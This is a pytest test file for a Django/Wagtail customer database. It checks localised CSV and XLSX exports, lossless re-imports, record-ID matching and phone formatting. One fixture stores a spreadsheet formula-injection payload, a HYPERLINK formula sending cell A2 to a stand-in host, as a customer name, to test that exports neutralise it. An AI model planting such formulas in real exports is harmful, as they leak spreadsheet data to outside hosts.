"""Exports people can read — labels, yes/no words, branch names, phone numbers that open as
text in Excel and LibreOffice — in the admin user's language, which the import reads back as
they are: an export re-imported changes nothing, whatever language it was made in.
"""

import csv
import datetime
import io
import re
import shutil
import subprocess

import openpyxl
import phonenumbers
import pytest
from django.core.management import call_command
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation

from tests.conftest import customer_url, make_customer, speak
from tests.import_files import csv_bytes, refused_rows, xlsx_bytes
from wagtail_clientdb import cell_values, contact, exports
from wagtail_clientdb.export import STANDARD_COLUMNS
from wagtail_clientdb.imports import columns
from wagtail_clientdb.models import (
    AttributeDefinition,
    Branch,
    ConsentEvent,
    Customer,
    CustomerGroup,
    CustomerOverride,
    ExportJob,
    ImportJob,
)
from wagtail_clientdb.spreadsheets import neutralise_csv_phone

FORMULA_NAME = '=HYPERLINK("http://x/?"&A2,"y")'


def export(client, export_format, **params):
    response = client.get(customer_url("list"), {"export": export_format, **params})
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(data):
    text = data.decode("utf-8-sig")
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def xlsx_rows(data):
    return list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))


def preview(client, name, data):
    """Upload a file: its previewed import (which must need no mapping step)."""
    response = client.post(customer_url("import"), {"file": SimpleUploadedFile(name, data)})
    assert response.status_code == 302 and "mapping" not in response.url, response.url
    job = ImportJob.objects.get(pk=response.url.rstrip("/").split("/")[-1])
    assert job.status == "previewed", job.error
    return job


def confirm(client, job):
    client.post(customer_url("import_job", job.pk), {"sharing": "all"})
    job.refresh_from_db()
    assert job.status == "imported", (job.status, job.error)
    return job


def snapshot(*leave_out):
    """Everything an import could change (but the fields named)."""
    return (
        [{k: v for k, v in values.items() if k not in leave_out} for values in Customer.objects.order_by("pk").values()],
        sorted(Customer.branches.through.objects.values_list("customer_id", "branch_id")),
        sorted(Customer.groups.through.objects.values_list("customer_id", "customergroup_id")),
        sorted((c.pk, sorted(c.tags.names())) for c in Customer.objects.all()),
        list(CustomerOverride.objects.order_by("pk").values()),
        ConsentEvent.objects.count(),
    )


@pytest.fixture
def world(db, branch_a, branch_b):
    """Customers of every kind of sharing, with every kind of attribute and phone number."""
    gamma = Branch.objects.create(name="Gamma, Altona", slug="gamma")  # a comma: written as its slug
    Branch.objects.create(name="Beta Salon", slug="beta-two")  # two branches of one name: slugs
    AttributeDefinition.objects.create(label="Hair type", key="hair_type", field_type="choice", choices=["fine", "thick"], sort_order=1)
    AttributeDefinition.objects.create(label="Allergies known", key="allergies", field_type="boolean", sort_order=2)
    AttributeDefinition.objects.create(label="Customer since", key="since", field_type="date", sort_order=3)
    AttributeDefinition.objects.create(label="Discount", key="discount", field_type="decimal", sort_order=4)
    AttributeDefinition.objects.create(label="Visits", key="visits", field_type="integer", sort_order=5)
    # A label and a key that an import would read as the phone column.
    AttributeDefinition.objects.create(label="Mobile", key="mobile", field_type="text", sort_order=6)
    vip = CustomerGroup.objects.create(name="VIP")
    anna = make_customer(
        first_name="Anna", last_name="Müller", email="anna@example.com", phone_raw="0170 1234567",
        notes="likes tea\n-5 is not a number", birthday=datetime.date(1990, 4, 1), marketing_consent=True,
        external_id="K-1", shared_with_all_branches=True,
        attributes={"hair_type": "fine", "allergies": True, "since": "2020-01-15", "discount": "2.5", "visits": 7, "mobile": "@home"},
    )
    anna.groups.add(vip)
    anna.tags.add("blonde", "regular")
    bert = make_customer(
        first_name="Bert", last_name="Brown", email="bert@example.com", phone_raw="+1 201-555-0123",
        home_branch=branch_a, attributes={"allergies": False, "discount": "-0.75"},
    )
    bert.tags.add("tea lover")  # one tag of two words, alone in its cell: not two tags read back
    make_customer(
        first_name="Cécile", last_name=FORMULA_NAME, email="cecile@example.fr", phone_raw="+33 6 12 34 56 78",
        branches=[branch_a, branch_b], attributes={"hair_type": "thick"},
    )
    make_customer(first_name="Dora", last_name="Dorn", email="dora@example.com", phone_raw="0170 12", branches=[gamma])  # an unreadable phone
    make_customer(first_name="Emil", last_name="Ende", email="emil@example.com", phone_raw="+39 06 1234 5678", shared_with_all_branches=True)
    return {"anna": anna}


EXPECTED = {
    "en": {"record": "Record ID", "first": "First name", "consent": "Marketing consent", "yes": "Yes", "no": "No", "all": "All branches", "source": "Entered in the admin", "discount": "2.5"},
    "de": {"record": "Datensatz-ID", "first": "Vorname", "consent": "Werbeeinwilligung", "yes": "Ja", "no": "Nein", "all": "Alle Filialen", "source": "Im Adminbereich erfasst", "discount": "2,5"},
    "fr": {"record": "ID de fiche", "first": "Prénom", "consent": "Consentement marketing", "yes": "Oui", "no": "Non", "all": "Toutes les filiales", "source": "Saisi dans l’administration", "discount": "2,5"},
}


@pytest.mark.parametrize("language", ["en", "de", "fr"])
def test_csv_export_is_readable_in_the_users_language(login, manager, world, language):
    speak(manager, language)
    rows = csv_rows(export(login(manager), "csv"))
    words = EXPECTED[language]
    header = rows[0]
    # Headings are labels in the user's language; attribute columns are headed by their labels,
    # except where an import would read the label as another column.
    assert header[0] == words["first"] and words["consent"] in header
    assert header[15] == words["record"]
    assert header[16:] == ["Hair type", "Allergies known", "Customer since", "Discount", "Visits", "Mobile (mobile)"]
    cells = {row[0]: dict(zip(header, row)) for row in rows[1:]}
    assert {name: int(row[words["record"]]) for name, row in cells.items()} == dict(
        Customer.objects.values_list("first_name", "pk")
    )
    anna, bert, cecile, dora, emil = (cells[name] for name in ("Anna", "Bert", "Cécile", "Dora", "Emil"))
    consent, branches, local_to, source = header[6], header[9], header[10], header[12]
    assert (anna[consent], bert[consent]) == (words["yes"], words["no"])
    assert anna[branches] == words["all"] and bert[branches] == "Alpha Salon"
    # Bert is Alpha's own customer: the Branches cell alone would not tell him from one the
    # head office shares with Alpha alone.
    assert (bert[local_to], anna[local_to], cecile[local_to]) == ("Alpha Salon", "", "")
    assert cecile[branches] == "Alpha Salon, beta"  # "Beta Salon" is the name of two branches: its slug
    assert dora[branches] == "gamma"  # "Gamma, Altona" would read as two branches
    assert anna[source] == words["source"]
    assert (anna["Hair type"], anna["Allergies known"], bert["Allergies known"]) == ("fine", words["yes"], words["no"])
    assert (anna["Customer since"], anna[header[5]]) == ("2020-01-15", "1990-04-01")
    assert (anna["Discount"], anna["Visits"]) == (words["discount"], "7")
    assert bert["Discount"] == ("-0.75" if language == "en" else "-0,75")  # a number: not neutralised
    assert anna["Mobile (mobile)"] == "'@home"
    # Phones: international format with spaces, no apostrophe; formula-looking text keeps it.
    phones = {name: cells[name][header[3]] for name in cells}
    assert phones == {
        "Anna": "+49 170 1234567", "Bert": "+1 201 555 0123", "Cécile": "+33 6 12 34 56 78",
        "Dora": "0170 12", "Emil": "+39 06 1234 5678",
    }
    assert cecile[header[1]] == "'" + FORMULA_NAME


def test_exported_phones_read_back_as_the_stored_number(login, manager, world):
    rows = csv_rows(export(login(manager), "csv"))
    by_email = {row[2]: row[3] for row in rows[1:] if row[2]}
    for customer in Customer.objects.exclude(email=""):
        cell = by_email[customer.email]
        assert not cell.startswith("'")
        assert contact.parse_phone(cell, "DE").e164 == customer.phone
        assert contact.parse_phone(cell, "US").e164 == customer.phone  # whatever the default region


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("language", ["en", "de", "fr"])
def test_an_export_reimports_unchanged_in_every_language(login, manager, world, language, export_format):
    speak(manager, language)
    client = login(manager)
    data = export(client, export_format)
    before, values_before = snapshot(), snapshot("updated_at", "version")
    job = preview(client, f"export.{export_format}", data)
    assert job.counts == {"new": 0, "updated": 0, "unchanged": 5, "invalid": 0}, job.invalid_rows
    assert snapshot() == before
    # Changed since the export: the import puts back that customer's values, and only those.
    Customer.objects.filter(email="anna@example.com").update(notes="changed", marketing_consent=False, attributes={})
    job = confirm(client, preview(client, f"export.{export_format}", data))
    assert job.counts == {"new": 0, "updated": 1, "unchanged": 4, "invalid": 0}, job.invalid_rows
    after = snapshot("updated_at", "version")
    assert after[:-1] == values_before[:-1] and after[-1] == values_before[-1] + 1  # the consent given again


@pytest.mark.parametrize("encoding, delimiter", [("cp1252", ";"), ("utf-16", "\t"), ("utf-8", ",")])
def test_an_export_saved_again_in_another_encoding_reimports_unchanged(login, manager, world, encoding, delimiter):
    """As Excel saves it again: Windows-1252 "CSV", UTF-16 "Unicode text" (tab-separated)."""
    speak(manager, "de")
    client = login(manager)
    rows = csv_rows(export(client, "csv"))
    before = snapshot()
    job = preview(client, "again.csv", csv_bytes(rows, delimiter=delimiter, encoding=encoding))
    assert job.counts == {"new": 0, "updated": 0, "unchanged": 5, "invalid": 0}, job.invalid_rows
    assert snapshot() == before


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_customers_known_only_by_name_reimport_onto_themselves(login, manager, export_format):
    """Walk-ins have no email, phone or external ID for the identity rule: the export's record ID
    names them, so a re-import changes nothing, and an edited file updates them."""
    twins = [make_customer(first_name="Tom", last_name="Meier", shared_with_all_branches=True) for _twin in range(2)]
    make_customer(first_name="Ida", last_name="Ohne", shared_with_all_branches=True)
    client = login(manager)
    data = export(client, export_format)
    before = snapshot()
    job = preview(client, f"export.{export_format}", data)
    assert job.counts == {"new": 0, "updated": 0, "unchanged": 3, "invalid": 0}, job.invalid_rows
    assert snapshot() == before
    rows = [list(row) for row in (csv_rows(data) if export_format == "csv" else xlsx_rows(data))]
    email, first_name = STANDARD_COLUMNS.index(columns.EMAIL), STANDARD_COLUMNS.index(columns.FIRST_NAME)
    record_id = STANDARD_COLUMNS.index(columns.RECORD_ID)
    second_tom = next(row for row in rows[1:] if int(row[record_id]) == twins[1].pk)
    second_tom[email], second_tom[first_name] = "tom2@example.com", "Thomas"
    edited = csv_bytes(rows) if export_format == "csv" else xlsx_bytes(rows)
    job = confirm(client, preview(client, f"edited.{export_format}", edited))
    assert job.counts == {"new": 0, "updated": 1, "unchanged": 2, "invalid": 0}, job.invalid_rows
    assert Customer.objects.count() == 3
    twins[1].refresh_from_db()
    assert (twins[1].first_name, twins[1].email) == ("Thomas", "tom2@example.com")


def test_customers_sharing_an_email_reimport_by_their_record_ids(login, manager):
    """Two customers may share an email (a couple, a family): their rows name each by its record
    ID, which is no repeated value; a row without one repeating that email still is."""
    make_customer(first_name="Mehmet", last_name="Schulz", email="schulz@example.com", shared_with_all_branches=True)
    make_customer(first_name="Maria", last_name="Schulz", email="schulz@example.com", shared_with_all_branches=True)
    make_customer(first_name="Ida", last_name="Ohne", email="ida@example.com", shared_with_all_branches=True)
    client = login(manager)
    data = export(client, "csv")
    job = preview(client, "export.csv", data)
    assert job.counts == {"new": 0, "updated": 0, "unchanged": 3, "invalid": 0}, refused_rows(job)
    rows = csv_rows(data)
    ida_line = 1 + next(index for index, row in enumerate(rows) if row[0] == "Ida")
    rows.append(["Ida", "Neu", "ida@example.com"] + [""] * (len(rows[0]) - 3))
    response = client.post(customer_url("import"), {"file": SimpleUploadedFile("more.csv", csv_bytes(rows))})
    job = ImportJob.objects.get(pk=response.url.rstrip("/").split("/")[-1])
    assert [(row["line"], row["message"]) for row in refused_rows(job)] == [(5, f"The same value as line {ida_line} of this file.")]


def test_a_record_id_finds_only_a_customer_the_importer_sees(login, staff_a, branch_a, branch_b):
    """Another branch's customer and a number nobody has get the same answer, and nothing changes."""
    theirs = make_customer(first_name="Bea", last_name="Beta", email="bea@example.com", home_branch=branch_b)
    ours = make_customer(first_name="Anja", last_name="Alpha", email="anja@example.com", home_branch=branch_a)
    rows = [
        ["Record ID", "First name", "Last name", "Notes"],
        [str(theirs.pk), "Bea", "Beta", "seen by Alpha"],
        [str(theirs.pk + ours.pk + 1000), "Nobody", "Here", "seen by Alpha"],
        [str(ours.pk), "Anja", "Alpha", "ours"],
        ["K-17", "Kai", "Kurz", ""],
        [str(ours.pk), "Anja", "Again", ""],
    ]
    client = login(staff_a)
    response = client.post(customer_url("import"), {"file": SimpleUploadedFile("ids.csv", csv_bytes(rows))})
    job = ImportJob.objects.get(pk=response.url.rstrip("/").split("/")[-1])
    refused = {row["line"]: (row["column"], row["message"]) for row in refused_rows(job)}
    assert refused == {
        2: ("Record ID", "No customer you can see has this record ID."),
        3: ("Record ID", "No customer you can see has this record ID."),
        5: ("Record ID", "“K-17” is not a record ID: an export writes the customer's number in this database there."),
        6: ("Record ID", "The same value as line 4 of this file."),
    }
    assert job.counts == {"new": 0, "updated": 1, "unchanged": 0, "invalid": 4}
    client.post(customer_url("import_job", job.pk), {"import_valid_rows": "on"})
    theirs.refresh_from_db()
    ours.refresh_from_db()
    assert (theirs.notes, ours.notes) == ("", "ours")
    assert not Customer.objects.filter(first_name__in=["Nobody", "Kai"]).exists()


def test_a_record_id_from_another_database_is_refused_when_nothing_else_in_the_row_is_its_customer_s(login, manager):
    """A file exported elsewhere holds that database's numbers: they would overwrite whoever has
    them here. An edit keeps something of the customer (the email, a name); another person does not."""
    anna = make_customer(first_name="Anna", last_name="Adler", email="anna@example.com", shared_with_all_branches=True)
    rows = [
        ["Record ID", "First name", "Last name", "Email"],
        [str(anna.pk), "Zoe", "Zander", "zoe@example.com"],
    ]
    client = login(manager)
    response = client.post(customer_url("import"), {"file": SimpleUploadedFile("elsewhere.csv", csv_bytes(rows))})
    job = ImportJob.objects.get(pk=response.url.rstrip("/").split("/")[-1])
    assert [(row["line"], row["column"], row["message"]) for row in refused_rows(job)] == [
        (
            2,
            "Record ID",
            f"Record ID {anna.pk} is Anna Adler, and nothing else in the row is theirs: is the file from another"
            " database? Empty the record ID to match the row by its email or phone.",
        )
    ]
    rows[1][1:3] = ["ANNA", "Berger"]  # a married name: the first name is still hers
    job = confirm(client, preview(client, "edited.csv", csv_bytes(rows)))
    assert job.counts == {"new": 0, "updated": 1, "unchanged": 0, "invalid": 0}
    anna.refresh_from_db()
    assert (anna.first_name, anna.last_name, anna.email) == ("ANNA", "Berger", "zoe@example.com")


def test_a_record_id_does_not_give_its_customer_another_customer_s_external_id(login, manager):
    anna = make_customer(first_name="Anna", email="anna@example.com", external_id="K-1", shared_with_all_branches=True)
    make_customer(first_name="Bert", email="bert@example.com", external_id="K-2", shared_with_all_branches=True)
    rows = [["Record ID", "First name", "External ID"], [str(anna.pk), "Anna", "K-2"]]
    client = login(manager)
    response = client.post(customer_url("import"), {"file": SimpleUploadedFile("ids.csv", csv_bytes(rows))})
    job = ImportJob.objects.get(pk=response.url.rstrip("/").split("/")[-1])
    assert [(row["line"], row["column"], row["message"]) for row in refused_rows(job)] == [
        (2, "External ID", "This external ID is another customer's.")
    ]
    anna.refresh_from_db()
    assert anna.external_id == "K-1"


#: Tag names with a list cell's separators and quotes in them, and one of two words.
LISTED_TAGS = ["A;B", "Hair, long", 'Say "hi"', "tea lover"]


@pytest.mark.parametrize("export_format, language", [("csv", "en"), ("csv", "de"), ("xlsx", "en")])
def test_tags_and_groups_with_separators_or_quotes_reimport_unchanged(login, manager, export_format, language):
    """A name with a comma, a semicolon or a double quote is written in double quotes (a quote
    inside doubled) and read back as that one name; other names are written as they are. The
    German CSV is separated by semicolons too."""
    friends, vip = CustomerGroup.objects.create(name="Friends, family"), CustomerGroup.objects.create(name="VIP")
    anna = make_customer(first_name="Anna", last_name="Adler", email="anna@example.com", shared_with_all_branches=True)
    anna.tags.add(*LISTED_TAGS)
    anna.groups.add(friends, vip)
    speak(manager, language)
    client = login(manager)
    data = export(client, export_format)
    cells = (csv_rows(data) if export_format == "csv" else xlsx_rows(data))[1]
    assert cells[STANDARD_COLUMNS.index(columns.TAGS)] == '"A;B", "Hair, long", "Say ""hi""", tea lover'
    assert cells[STANDARD_COLUMNS.index(columns.GROUPS)] == '"Friends, family", VIP'
    job = preview(client, f"export.{export_format}", data)
    assert job.counts == {"new": 0, "updated": 0, "unchanged": 1, "invalid": 0}, job.invalid_rows
    anna.tags.clear()
    anna.groups.clear()
    job = confirm(client, preview(client, f"export.{export_format}", data))
    assert job.counts == {"new": 0, "updated": 1, "unchanged": 0, "invalid": 0}, job.invalid_rows
    assert sorted(anna.tags.names()) == LISTED_TAGS
    assert set(anna.groups.all()) == {friends, vip}


def test_a_branch_whose_name_would_not_read_back_is_written_as_its_slug():
    """As a list cell is read: a separator in the name, or a quote it starts with."""
    branches = [
        Branch(pk=1, name="Gamma, Altona", slug="gamma"),
        Branch(pk=2, name="Delta; Mitte", slug="delta"),
        Branch(pk=3, name='"Chic" Salon', slug="chic"),
        Branch(pk=4, name='Salon "Chic"', slug="salon-chic"),
        Branch(pk=5, name="Beta Salon", slug="beta"),
    ]
    labels = cell_values.branch_labels(branches)
    assert labels == {1: "gamma", 2: "delta", 3: "chic", 4: 'Salon "Chic"', 5: "Beta Salon"}


def test_a_branchs_export_reimports_unchanged(login, staff_a, world, branch_a, allow_branch_edits):
    from wagtail_clientdb import overrides

    overrides.save_local_values(world["anna"], branch_a, {"notes": "Alpha's note", "phone_raw": "+43 664 1234567"})
    speak(staff_a, "fr")
    client = login(staff_a)
    for export_format in ("csv", "xlsx"):
        data = export(client, export_format)
        assert ("+43 664 1234567" in data.decode("utf-8-sig")) if export_format == "csv" else True
        before = snapshot()
        job = preview(client, f"export.{export_format}", data)
        assert job.counts == {"new": 0, "updated": 0, "unchanged": 4, "invalid": 0}, job.invalid_rows
        assert snapshot() == before


def test_xlsx_export_has_text_phones_dates_widths_and_a_frozen_bold_heading(login, manager, world):
    speak(manager, "de")
    data = export(login(manager), "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    header = [cell.value for cell in sheet[1]]
    assert header[:4] == ["Vorname", "Nachname", "E-Mail", "Telefon"] and "Hair type" in header
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEFGHIJKLMNOPQRST"}
    assert all(8 <= width <= 50 for width in widths.values()), widths
    assert widths["C"] >= len("cecile@example.fr") and widths["B"] >= len(FORMULA_NAME)
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    anna = {heading: cell for heading, cell in zip(header, rows["Anna"])}
    assert (anna["Telefon"].value, anna["Telefon"].data_type) == ("+49 170 1234567", "s")
    assert (anna["Werbeeinwilligung"].value, anna["Filialen"].value) == ("Ja", "Alle Filialen")
    assert anna["Geburtstag"].value == datetime.datetime(1990, 4, 1) and anna["Geburtstag"].number_format == "dd.mm.yyyy"
    assert anna["Erstellt am"].number_format == "dd.mm.yyyy hh:mm:ss"
    assert (anna["Allergies known"].value, anna["Discount"].value, anna["Visits"].value) == ("Ja", 2.5, 7)
    formula = rows["Cécile"][1]
    assert (formula.value, formula.data_type) == (FORMULA_NAME, "s")  # a string, never a formula


def test_the_old_raw_forms_still_import(login, manager, world, branch_a, branch_b):
    """Keys as headings, ``*`` and slugs for branches, 1/0 for yes and no."""
    rows = [
        ["first_name", "last_name", "email", "phone", "marketing_consent", "branches", "hair_type", "allergies"],
        ["Anna", "Müller", "anna@example.com", "'+491701234567", "0", "*", "thick", "0"],
        ["Neu", "Person", "neu@example.com", "+491709999999", "1", "alpha, beta", "fine", "1"],
    ]
    client = login(manager)
    for name, data in (("old.csv", csv_bytes(rows)), ("old.xlsx", xlsx_bytes(rows))):
        Customer.objects.filter(email="neu@example.com").delete()
        job = confirm(client, preview(client, name, data))
        assert job.counts["invalid"] == 0 and job.counts["new"] == 1, job.invalid_rows
    anna, new = Customer.objects.get(email="anna@example.com"), Customer.objects.get(email="neu@example.com")
    assert (anna.marketing_consent, anna.attributes["hair_type"], anna.attributes["allergies"]) == (False, "thick", False)
    assert anna.phone == "+491701234567" and anna.shared_with_all_branches
    assert (new.marketing_consent, new.attributes["allergies"], set(new.branches.all())) == (True, True, {branch_a, branch_b})


def test_background_exports_speak_the_language_of_who_asked(login, manager, world, settings):
    settings.WAGTAIL_CLIENTDB = {**settings.WAGTAIL_CLIENTDB, "EXPORT_BACKGROUND_ROWS": 0}
    speak(manager, "de")
    login(manager).get(customer_url("list"), {"export": "csv"})
    job = ExportJob.objects.get()
    # A task worker runs with no user's language: the job keeps the one it was asked in.
    with translation.override("en"):
        exports.run_export_job(job)
    with job.file.open("rb") as file:
        rows = csv_rows(file.read())
    assert rows[0][:2] == ["Vorname", "Nachname"]
    assert {row[6] for row in rows[1:]} == {"Ja", "Nein"}


def test_the_export_command_writes_the_language_asked_for(world, django_user_model, capsys):
    django_user_model.objects.create_superuser("root", "root@example.com", "pw")
    call_command("clientdb_export", "--language", "fr", "--delimiter", "semicolon")
    rows = csv_rows(capsys.readouterr().out.encode())
    assert rows[0][:2] == ["Prénom", "Nom"] and "Toutes les filiales" in {row[9] for row in rows}


def test_attribute_headings_read_back_as_their_attribute(db):
    definitions = [
        AttributeDefinition.objects.create(label="Notes", key="notes_extra"),  # a field's heading
        AttributeDefinition.objects.create(label="Telefon", key="telefon"),  # a field's heading, label and key
        AttributeDefinition.objects.create(label="Colour", key="colour"),
        AttributeDefinition.objects.create(label="Colour", key="colour_2"),  # another attribute's label
        AttributeDefinition.objects.create(label="Farbe", key="colour_3"),
    ]
    headings = columns.attribute_headings(definitions)
    assert headings == ["notes_extra", "Telefon (telefon)", "Colour", "colour_2", "Farbe"]
    assert [columns.match_header(heading) for heading in headings] == [columns.ATTRIBUTE + d.key for d in definitions]


def example_numbers():
    for region in sorted(phonenumbers.SUPPORTED_REGIONS):
        for number_type in range(11):
            number = phonenumbers.example_number_for_type(region, number_type)
            if number is not None:
                yield phonenumbers.format_number(number, phonenumbers.PhoneNumberFormat.E164)


def test_phones_are_grouped_as_phonenumbers_groups_them_and_read_back():
    """The grouping learnt once per country and leading digits is phonenumbers' own."""
    numbers = list(example_numbers())
    assert len(numbers) > 1000
    for e164 in numbers + numbers:  # the second time from what was learnt
        spaced = contact.spaced_international(e164)
        expected = phonenumbers.format_number(phonenumbers.parse(e164), phonenumbers.PhoneNumberFormat.INTERNATIONAL)
        assert spaced == "+" + " ".join(re.findall(r"\d+", expected)), e164
        assert neutralise_csv_phone(spaced) == spaced  # no apostrophe in CSV
        assert contact.parse_phone(spaced, "FR").e164 == e164


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_opens_exported_phones_as_text(login, manager, world, tmp_path):
    """What a user sees: the German CSV export opened in LibreOffice Calc (headless, its
    default CSV options), next to the forms it replaced."""
    speak(manager, "de")
    (tmp_path / "export.csv").write_bytes(export(login(manager), "csv"))
    (tmp_path / "forms.csv").write_bytes("e164;spaced;apostrophe\n+491701234567;+49 170 1234567;'+491701234567\n".encode())
    for name in ("export.csv", "forms.csv"):
        subprocess.run(
            ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--infilter=CSV:59,34,76,1",
             "--convert-to", "xlsx", "--outdir", str(tmp_path), str(tmp_path / name)],
            check=True, capture_output=True, timeout=180,
        )
    sheet = openpyxl.load_workbook(tmp_path / "export.xlsx").active
    header = [cell.value for cell in sheet[1]]
    rows = {row[0].value: dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)}
    for name, phone in (("Anna", "+49 170 1234567"), ("Bert", "+1 201 555 0123"), ("Cécile", "+33 6 12 34 56 78")):
        assert (rows[name]["Telefon"].data_type, rows[name]["Telefon"].value) == ("s", phone)
    assert rows["Anna"]["Werbeeinwilligung"].value == "Ja" and rows["Anna"]["Geburtstag"].is_date
    assert rows["Cécile"]["Nachname"].value == "'" + FORMULA_NAME  # shown as text, never run
    e164, spaced, apostrophe = next(openpyxl.load_workbook(tmp_path / "forms.xlsx").active.iter_rows(min_row=2))
    assert (e164.data_type, e164.value) == ("n", 491701234567)  # the "+" lost
    assert (spaced.data_type, spaced.value) == ("s", "+49 170 1234567")
    assert apostrophe.value == "'+491701234567"  # the apostrophe shown
